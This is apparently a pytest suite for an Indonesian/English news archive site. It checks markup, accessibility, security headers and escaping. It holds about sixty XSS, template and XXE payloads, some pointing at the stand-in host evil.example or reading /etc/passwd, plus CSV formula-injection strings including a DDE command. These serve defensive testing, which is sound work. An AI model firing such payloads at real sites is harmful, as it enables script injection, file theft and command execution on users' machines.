"""What must hold on every page, whatever it shows: markup, labels, headers, nothing foreign, nothing run."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from itertools import pairwise
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree as ET

import lxml.html
import pytest

from archive.site.atom import ATOM
from archive.site.plugins.headers import SECURITY
from tests.archive.site.practice_room import REVISION, Article, Room, article

PAGES = (
    "/",
    "/cari",
    "/cari?q=koperasi",
    "/cari?q=koperasi&kantor=jombang&tahun=2025&urut=sesuai",
    "/cari?q=zzzzzz",
    "/artikel/5700",
    "/artikel/1058",
    "/artikel/1059",
    "/kantor",
    "/kantor/jombang",
    "/kantor/jombang?tahun=2025",
    "/kantor/kota-malang",
    "/data",
    "/metode",
    "/status",
    "/archive",
    "/archive/articles",
    "/archive/articles?_search=koperasi&category__contains=k",
    "/archive/articles/58",
    "/archive/offices",
    "/archive/revisions",
    "/archive?sql=select+office,+count(*)+from+articles+where+year+=+:tahun+group+by+office",
)
REFUSED = (
    ("/cari?q=kantor:", 400),
    ("/artikel/1", 404),
    ("/kantor/atlantis", 404),
    ("/x", 404),
    ("/archive?sql=x", 400),
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import 'https://evil.example'</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\u2028</script><script>alert(1)</script>",
    "koperasi <mark onmouseover=alert(1)>x</mark>",
    "<form action=https://evil.example><button>x",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT>alert(String.fromCharCode(88))</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script>alert`1`</script>",
    "</script><script>alert(1)//",
    "--></script><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</textarea></title></style></script><svg onload=alert(1)>",
    "<img src=1 href=1 onerror='javascript:alert(1)'>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<template><script>alert(1)</script></template>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "vbscript:msgbox(1)",
    " javascript:alert(1)",
    "feed:javascript:alert(1)",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onload=alert(1) `",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "\ufdd0<script>alert(1)</script>\ufdd1",
    "\u202e<script>alert(1)</script>",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0")


@pytest.mark.parametrize("lang", ["id", "en"])
@pytest.mark.parametrize("address", PAGES)
def test_a_page_is_well_made(room: Room, address: str, lang: str) -> None:
    parameter = "_lang" if address.startswith("/archive") else "lang"
    joined = address if lang == "id" else f"{address}{'&' if '?' in address else '?'}{parameter}=en"
    tree = room.tree(joined)
    assert tree.get("lang") == lang
    assert_well_made(tree)


@pytest.mark.parametrize(("address", "status"), REFUSED)
def test_a_refusal_is_well_made(room: Room, address: str, status: int) -> None:
    assert_well_made(room.tree(address, status))


def assert_well_made(tree: lxml.html.HtmlElement) -> None:
    assert len(tree.xpath("//h1")) == 1
    assert len(tree.xpath("//main")) == 1
    assert tree.xpath("//title/text()")[0].strip()
    assert tree.xpath("//a[@class='skip']/@href") == ["#" + tree.xpath("//main/@id")[0]]
    names = tree.xpath("//@id")
    assert sorted(names) == sorted(set(names))
    assert set(tree.xpath("//@aria-labelledby")) <= set(names)
    assert list(unlabelled(tree)) == []
    assert levels_in_order([int(heading.tag[1]) for heading in tree.xpath("//h1|//h2|//h3|//h4")])
    assert len(tree.xpath("//nav//a[@aria-current='page']")) <= 1
    assert_nothing_inline(tree)
    assert_nothing_from_elsewhere(tree)


def unlabelled(tree: lxml.html.HtmlElement) -> Iterator[str]:
    """Fields without a label, links and buttons without a name."""
    for field in tree.xpath("//input[not(@type='hidden' or @type='submit')]|//select|//textarea"):
        if not field.get("aria-label") and not tree.xpath("//label[@for=$name]", name=field.get("id") or "?"):
            yield lxml.html.tostring(field, encoding="unicode")
    for link in tree.xpath("//a|//button"):
        if not link.text_content().strip() and not link.xpath(".//title|.//img[@alt]") and not link.get("aria-label"):
            yield lxml.html.tostring(link, encoding="unicode")


def levels_in_order(levels: list[int]) -> bool:
    return levels[0] == 1 and all(after - before <= 1 for before, after in pairwise(levels))


def assert_nothing_inline(tree: lxml.html.HtmlElement) -> None:
    # A block of data isn't run; everything else has to come from a file.
    assert tree.xpath("//style|//*[@style]|//script[not(@src) and not(@type='application/ld+json')]") == []
    assert [name for element in tree.iter() for name in element.attrib if name.startswith("on")] == []


def assert_nothing_from_elsewhere(tree: lxml.html.HtmlElement) -> None:
    named = "//link[not(@rel='alternate' or @rel='canonical')]/@href"
    fetched = tree.xpath(f"//@src|//@srcset|{named}|//@poster|//form/@action|//object/@data")
    assert [address for address in fetched if urlsplit(address).netloc or urlsplit(address).scheme] == []


@pytest.mark.parametrize(
    "address",
    [*PAGES, *(address for address, _ in REFUSED), "/cari.json", "/artikel/5700.json", "/robots.txt", "/archive.db",
     "/cari.csv", "/cari.atom", "/feed.atom", "/kantor/jombang.atom", "/sitemap.xml", "/artikel/5700.ris",
     "/static/reading-room.css", "/-/static/table.js", "/archive/articles.csv", "/archive/articles.json", "/archive/",
     "/data/nothing", "/-/databases", "/favicon.ico"],
)  # fmt: skip
def test_every_answer_carries_the_security_headers(room: Room, address: str) -> None:
    headers = room.get(address).headers
    assert {name: headers.get_list(name) for name in SECURITY} == {name: [value] for name, value in SECURITY.items()}


def test_links_stay_in_the_language(room: Room) -> None:
    for address in ("/", "/cari?q=koperasi", "/artikel/5700", "/kantor/jombang", "/kantor"):
        joined = f"{address}{'&' if '?' in address else '?'}lang=en"
        links = [link for link in room.tree(joined).xpath("//main//a/@href") if link.startswith("/")]
        inside = [link for link in links if not link.startswith(("/data/", "/archive")) and ".json" not in link]
        assert inside
        assert [link for link in inside if "lang=en" not in link] == []


def test_one_click_changes_the_language_and_nothing_else(room: Room) -> None:
    link = "//nav[contains(@class, 'site-tongue')]/a/@href"
    assert room.tree("/cari?q=a%26b&kantor=jombang").xpath(link) == ["/cari?q=a%26b&kantor=jombang&lang=en"]
    assert room.tree("/cari?q=a%26b&lang=en").xpath(link) == ["/cari?q=a%26b"]
    assert room.tree("/archive/articles?_lang=en&_search=a").xpath(link) == ["/archive/articles?_search=a"]


def test_a_page_names_its_one_address(room: Room) -> None:
    for address, canonical in (
        ("/", "/"),
        ("/artikel/5700", "/artikel/5700"),
        ("/kantor/jombang?x=1", "/kantor/jombang"),
    ):
        assert room.tree(address).xpath("//link[@rel='canonical']/@href") == [f"http://localhost{canonical}"]


def hostile(number: int, payload: str) -> Article:
    """An article in which everything that a site decides is ``payload``."""
    listed = json.dumps([{"url": payload, "title": payload, "caption": payload, "media_type": payload}])
    names = ("title", "body", "url", "site", "author", "category", "published_raw", "published_from", "date_suspect")
    return article(
        number, office="jombang", image_url=payload, images=listed, attachments=listed, revisions=1,
        witness=json.dumps({payload: payload}), **dict.fromkeys((*names, "event_from", "event_to"), payload),
    )  # fmt: skip


@pytest.fixture
def hostile_room(open_room: Callable[..., Room]) -> Room:
    rows = [hostile(number, payload) for number, payload in enumerate(PAYLOADS)]
    form = REVISION | {"title": "x"}
    revisions = tuple(
        form | {"article_id": row["id"], "title": f"x{row['title']}", "body": f"x {row['body']}",
                "published": row["title"]}
        for row in rows
    )  # fmt: skip
    return open_room(rows, revisions=revisions)


def test_no_payload_becomes_markup(hostile_room: Room) -> None:
    plain = article(0)
    allowed = set(hostile_room.tree(f"/artikel/{plain['id']}").xpath("//@rel"))
    addresses = ["/", "/cari", "/cari?q=alert", "/kantor", "/kantor/jombang", "/archive/articles", "/archive/revisions"]
    addresses += [f"/artikel/{1000 + number}" for number in range(len(PAYLOADS))]
    addresses += [f"/archive/articles/{1 + number}" for number in range(len(PAYLOADS))]
    for address in addresses:
        tree = hostile_room.tree(address)
        assert_harmless(tree)
        assert_nothing_inline(tree)
        assert_nothing_from_elsewhere(tree)
        assert set(tree.xpath("//@rel")) <= allowed | {"next", "prev", "nofollow"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_in_an_address_becomes_markup(room: Room, payload: str) -> None:
    typed = quote(payload, safe="")
    for address in (
        f"/cari?q={typed}", f"/cari?q=koperasi&kantor={typed}", f"/cari?q=a&kategori={typed}&tahun=2025",
        f"/cari?lang={typed}", f"/kantor/jombang?tahun={typed}&hal={typed}", f"/archive/articles?_search={typed}",
        f"/archive?sql={typed}", f"/archive/articles?title={typed}", f"/archive/articles?{typed}=1", f"/?{typed}",
    ):  # fmt: skip
        answer = room.get(address)
        assert answer.status_code in (200, 400), address
        tree = lxml.html.document_fromstring(answer.text)
        assert_harmless(tree)
        assert_nothing_inline(tree)
        assert_nothing_from_elsewhere(tree)


def assert_harmless(tree: lxml.html.HtmlElement) -> None:
    assert tree.xpath("//iframe|//base|//math|//meta[@http-equiv]|//mark[@*]|//main//img") == []
    assert tree.xpath("//script[not(@src) and not(@type='application/ld+json' and not(contains(., '<')))]") == []
    schemes = {urlsplit(address.strip()).scheme.lower() for address in tree.xpath("//@href|//@action|//@src")}
    assert schemes <= {"", "https", "http"}


def test_sixty_payloads_are_tried() -> None:
    assert len(set(PAYLOADS)) == 60


def test_no_payload_breaks_a_format(hostile_room: Room) -> None:
    """JSON, CSV, Atom and citations carry every payload as text, and nothing but text."""
    hits = hostile_room.value("/cari.json?limit=100")["hits"]
    assert {hit["title"] for hit in hits} == set(PAYLOADS)
    assert not any("<" in hit["snippet_html"].replace("<mark>", "").replace("</mark>", "") for hit in hits)
    feed = ET.fromstring(hostile_room.get("/kantor/jombang.atom").content)
    assert {node.tag.rpartition("}")[2] for node in feed.iter()} == {
        "feed", "id", "title", "updated", "rights", "generator", "link", "entry", "author", "name", "category",
        "published", "summary",
    }  # fmt: skip
    assert {urlsplit(link.get("href", "")).scheme for link in feed.iter(f"{{{ATOM}}}link")} == {"http"}
    for number, payload in enumerate(PAYLOADS):
        [cited] = hostile_room.value(f"/artikel/{1000 + number}.csl.json")
        assert cited["title"] == payload
        ris = hostile_room.get(f"/artikel/{1000 + number}.ris").text
        assert len(re.findall(r"^ER  - ", ris, re.MULTILINE)) == 1
    block = hostile_room.tree("/data").xpath("//script[@type='application/ld+json']/text()")[0]
    assert json.loads(block)["@type"] == "Dataset"


@pytest.mark.parametrize("address", ["/cari.csv", "/archive/articles.csv", "/archive/articles.csv?_stream=on"])
def test_no_cell_of_a_table_is_a_formula(open_room: Callable[..., Room], address: str) -> None:
    room = open_room([article(number, title=formula, body=formula) for number, formula in enumerate(FORMULAS)])
    rows = list(csv.reader(io.StringIO(room.get(address).text, newline="")))
    assert len(rows) == len(FORMULAS) + 1
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []


def test_numbers_below_zero_stay_numbers(room: Room) -> None:
    assert "-7.5" in room.get("/archive/offices.csv").text
